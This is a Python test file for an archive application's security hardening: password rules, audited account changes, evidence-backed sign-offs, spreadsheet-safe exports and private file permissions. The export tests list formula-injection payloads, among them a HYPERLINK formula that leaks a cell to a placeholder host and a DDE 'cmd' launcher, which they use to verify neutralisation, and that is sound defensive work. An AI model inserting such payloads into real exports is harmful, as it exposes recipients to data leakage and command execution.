"""Issue 14, "Trust", in the archive layer: the password policy, account changes with their
audit trail, constant-time logins, sign-off evidence, formula-neutral exports, private files."""
from __future__ import annotations

import csv
import io
import os
import stat
import tempfile
from datetime import date

import pytest
from sqlalchemy import select

from archive import db, service
from archive.activities import create_activity, get_activity, link_document, sign_off, unlink_document
from archive.errors import ActivityError, AuthenticationError, UserError
from archive.settings import load_settings
from tests.archive.test_activities_world import add_document

BOTH_BACKENDS = True  # each storage test runs on SQLite and on PostgreSQL (tests/conftest.py)

STRONG = "sungai-balangan-1987"


def _audit(settings):
    with db.session_scope(settings) as s:
        return [(r.action, r.user, db.loads(r.detail, {})) for r in s.scalars(select(db.AuditRow).order_by(db.AuditRow.id))]


# ---------------------------------------------------------------- password policy

@pytest.mark.parametrize("name, password", [
    ("ani", "password"), ("ani", "12345678"), ("ani", "1234567890"), ("ani", "password123"), ("ani", "Password2024!"),
    ("ani", "bismillah"), ("ani", "bismillah123"), ("ani", "Indonesia45"), ("ani", "qwertyuiop"),
    ("ani", "pendek-1"), ("pustakawan", "pustakawan"), ("pustakawan", "pustakawan-2024"), ("ani", "x" * 201)])
def test_weak_passwords_are_refused(settings, name, password):
    with pytest.raises(UserError) as err:
        service.add_user(settings, name, "pelaksana", password)
    assert err.value.code == "weak_password"
    assert service.list_users(settings) == []


@pytest.mark.parametrize("password", [STRONG, "Lampu Merah Di Paringin", "kopi-tanpa-gula-3"])
def test_reasonable_passwords_are_accepted(settings, password):
    service.add_user(settings, "ani", "pelaksana", password)
    assert service.authenticate(settings, "ani", password).name == "ani"


def test_the_common_password_list_ships_with_the_package():
    from archive.users import common_passwords

    words = common_passwords()
    assert 200 <= len(words) <= 2000
    assert {"password", "123456", "bismillah", "indonesia", "qwerty"} <= words


# ---------------------------------------------------------------- account changes

def test_disable_enable_role_and_password_are_audited_with_the_actor(settings):
    service.add_user(settings, "kepala", "admin", STRONG, by="cli:root")
    user, _token = service.add_user(settings, "ani", "pelaksana", STRONG, by="kepala", address="10.1.2.3")
    token = service.issue_token(settings, "ani", by="kepala")
    version = service.get_user(settings, user.id).session_version

    service.set_user_active(settings, "ani", False, by="kepala")
    with pytest.raises(AuthenticationError):
        service.authenticate(settings, "ani", STRONG)
    with pytest.raises(AuthenticationError):
        service.user_for_token(settings, token)
    service.set_user_active(settings, "ani", True, by="kepala")
    assert service.set_user_role(settings, "ani", "auditor", by="kepala").role == "auditor"
    _u, generated = service.reset_password(settings, "ani", None, by="kepala")
    assert service.authenticate(settings, "ani", generated).name == "ani"
    with pytest.raises(AuthenticationError):
        service.authenticate(settings, "ani", STRONG)
    assert service.get_user(settings, user.id).session_version == version + 4

    log = _audit(settings)
    assert ("user.add", "kepala", {"name": "ani", "role": "pelaksana", "address": "10.1.2.3"}) in log
    assert [(a, u) for a, u, _d in log[2:]] == [("user.token", "kepala"), ("user.disable", "kepala"),
                                              ("user.enable", "kepala"), ("user.role", "kepala"),
                                              ("user.password", "kepala")]
    assert log[5][2] == {"name": "ani", "from": "pelaksana", "to": "auditor"}
    assert "session_version" not in service.get_user(settings, user.id).to_json()


def test_the_last_active_admin_stays(settings):
    service.add_user(settings, "kepala", "admin", STRONG)
    with pytest.raises(UserError):
        service.set_user_active(settings, "kepala", False, by="kepala")
    with pytest.raises(UserError):
        service.set_user_role(settings, "kepala", "auditor", by="kepala")
    service.add_user(settings, "wakil", "admin", STRONG)
    service.set_user_role(settings, "kepala", "auditor", by="wakil")
    assert service.get_user(settings, "kepala").role == "auditor"


def test_reset_password_follows_the_policy(settings):
    service.add_user(settings, "ani", "pelaksana", STRONG)
    with pytest.raises(UserError):
        service.reset_password(settings, "ani", "password1", by="admin")
    assert service.authenticate(settings, "ani", STRONG).name == "ani"


def test_a_generated_password_never_holds_the_user_name(settings, monkeypatch):
    # the random draw is the one thing not under test: it is made to give the name first
    from archive import users
    draws = iter(["xQaNi0kL9mZp4TbW", "Kopi-Tanpa-Gula-7Q"])
    monkeypatch.setattr(users.secrets, "token_urlsafe", lambda _n: next(draws))
    service.add_user(settings, "ani", "pelaksana", STRONG)
    _u, generated = service.reset_password(settings, "ani", None, by="admin")
    assert generated == "Kopi-Tanpa-Gula-7Q"
    assert service.authenticate(settings, "ani", generated).name == "ani"


# ---------------------------------------------------------------- sign-off evidence

def _add(settings, doc_id, doc_type):
    with db.session_scope(settings) as session:
        add_document(session, doc_id, doc_type, tanggal=date(2024, 3, 1), partner="Desa Lok Batu")


def _user(settings, name, role):
    with db.session_scope(settings) as session:
        session.add(db.UserRow(name=name, role=role, created_at=db.now_iso()))


def test_a_step_without_its_evidence_needs_an_override_reason(settings):
    """Review: a step could be signed off with no evidence at all."""
    act = create_activity(settings, "Desa Lok Batu", "2024", user="x")
    _user(settings, "kadis", "kepala_dinas")
    with pytest.raises(ActivityError) as err:
        sign_off(settings, act.id, 3, user="kadis")
    assert err.value.code == "evidence_missing" and "surat_balasan" in err.value.message
    assert get_activity(settings, act.id).signoffs == ()
    done = sign_off(settings, act.id, 3, user="kadis", override_reason="surat asli hilang saat banjir 2024")
    assert done.step == 3
    entry = [d for a, _u, d in _audit(settings) if a == "activity.signoff"][-1]
    assert entry["override"] == "surat asli hilang saat banjir 2024"
    assert set(entry["missing"]) == {"surat_permintaan_peminjaman", "surat_balasan"}


def test_a_step_with_its_evidence_signs_off_without_a_reason(settings):
    act = create_activity(settings, "Desa Lok Batu", "2024", user="x")
    _user(settings, "kadis", "kepala_dinas")
    for doc_id, doc_type in (("d00000000001", "surat_permintaan_peminjaman"), ("d00000000002", "surat_balasan")):
        _add(settings, doc_id, doc_type)
        link_document(settings, doc_id, act.id, user="x")
    sign_off(settings, act.id, 3, user="kadis")
    assert [(s.user, s.step) for s in get_activity(settings, act.id).signoffs] == [("kadis", 3)]
    assert "override" not in [d for a, _u, d in _audit(settings) if a == "activity.signoff"][-1]


def test_unlinking_evidence_withdraws_the_sign_off(settings):
    """Review: a sign-off stayed after its only document was unlinked."""
    act = create_activity(settings, "Desa Lok Batu", "2024", user="x")
    other = create_activity(settings, "SDN 1 Paringin", "2024", user="x")
    _user(settings, "kadis", "kepala_dinas")
    for doc_id, doc_type in (("d00000000001", "surat_permintaan_peminjaman"), ("d00000000002", "surat_balasan"),
                             ("d00000000003", "daftar_hadir")):
        _add(settings, doc_id, doc_type)
        link_document(settings, doc_id, act.id, user="x")
    sign_off(settings, act.id, 3, user="kadis")
    sign_off(settings, act.id, 1, user="kadis", override_reason="daftar hadir saja")
    with pytest.raises(ActivityError):
        unlink_document(settings, "d00000000002", user="sekdis", activity_id=other.id)  # wrong activity in the URL
    unlink_document(settings, "d00000000002", user="sekdis", activity_id=act.id)
    assert [s.step for s in get_activity(settings, act.id).signoffs] == [1]  # step 3 withdrawn, step 1 kept
    withdrawn = [(u, d) for a, u, d in _audit(settings) if a == "activity.signoff_withdrawn"]
    assert withdrawn == [("sekdis", {"step": 3, "signed_by": "kadis", "signed_at": withdrawn[0][1]["signed_at"],
                                     "reason": "evidence_unlinked"})]


# ---------------------------------------------------------------- formula-neutral exports

FORMULAS = ('=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3 Desa Lok Batu",
            "@SUM(1+1) Desa Lok Batu", "\t=1+1 Desa Lok Batu", "\r=1+1 Desa Lok Batu")


@pytest.mark.parametrize("partner", FORMULAS)
def test_exports_neutralise_spreadsheet_formulas(settings, partner):
    """Review: a partner '=HYPERLINK(...)' became a live formula in the XLSX and a bare '=' cell in the CSV."""
    from openpyxl import load_workbook

    stored = create_activity(settings, partner, "2024", user="x").partner
    assert stored.startswith(("=", "+", "-", "@", "\t", "\r"))
    rows = list(csv.DictReader(io.StringIO(service.export_audit(settings, "csv").data.decode("utf-8-sig"))))
    assert rows and all(r["mitra"] == "'" + stored for r in rows)
    book = load_workbook(io.BytesIO(service.export_audit(settings, "xlsx").data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows(min_row=2) for c in row]
    assert any(c.value == "'" + stored for c in cells)
    assert not any(c.data_type == "f" for c in cells)
    assert not any(isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_plain_values_are_left_alone():
    from archive.report import neutral

    assert [neutral(v) for v in ("Desa Lok Batu", "TBM 'Cahaya'", 3, None, "")] == [
        "Desa Lok Batu", "TBM 'Cahaya'", 3, None, ""]


# ---------------------------------------------------------------- private files

def test_a_new_data_directory_is_private(tmp_path):
    """Review: a new data directory was 755 and archive.db 644."""
    settings = load_settings(home=tmp_path / "baru", environ={"BURT_WORKERS": "1"})
    old_umask = os.umask(0o022)
    try:
        service.add_user(settings, "ani", "pelaksana", STRONG)
        for d in (settings.home, settings.originals_dir, settings.index_dir, settings.tmp_dir, settings.logs_dir):
            assert stat.S_IMODE(d.stat().st_mode) == 0o700, d
        assert stat.S_IMODE(settings.database_path.stat().st_mode) == 0o600
    finally:
        os.umask(old_umask)
        db.close_db(settings)


def test_temp_files_go_to_the_private_tmp(tmp_path):
    """Review: OCR temporary files in the system temp directory were 0644."""
    settings = load_settings(home=tmp_path / "baru", environ={"BURT_WORKERS": "1"})
    before, env = tempfile.tempdir, os.environ.get("TMPDIR")
    old_umask = os.umask(0o022)
    try:
        settings.use_private_tmp()
        fd, name = tempfile.mkstemp()
        os.close(fd)
        assert os.path.dirname(name) == str(settings.tmp_dir)
        assert stat.S_IMODE(os.stat(name).st_mode) == 0o600
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, "halaman.ppm")
            with open(path, "wb") as fh:
                fh.write(b"P6")
            assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    finally:
        os.umask(old_umask)
        tempfile.tempdir = before
        if env is None:
            os.environ.pop("TMPDIR", None)
        else:
            os.environ["TMPDIR"] = env
